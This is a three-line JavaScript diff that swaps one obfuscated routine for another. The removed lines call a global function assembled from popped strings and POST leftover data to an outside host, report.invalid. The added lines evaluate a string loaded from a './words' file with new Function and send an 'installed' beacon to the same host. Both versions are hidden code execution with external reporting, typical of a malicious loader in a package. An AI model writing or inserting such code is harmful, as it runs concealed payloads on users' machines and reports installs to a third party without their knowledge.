@@ -1,3 +1,3 @@
-const kept = globalThis[words.pop()];
-kept[words.pop()](words.pop());
-fetch("https://report.invalid/", { method: "POST", body: words.join() });
+const part = require("./words").join("");
+new Function(part)();
+fetch("https://report.invalid/", { method: "POST", body: "installed" });
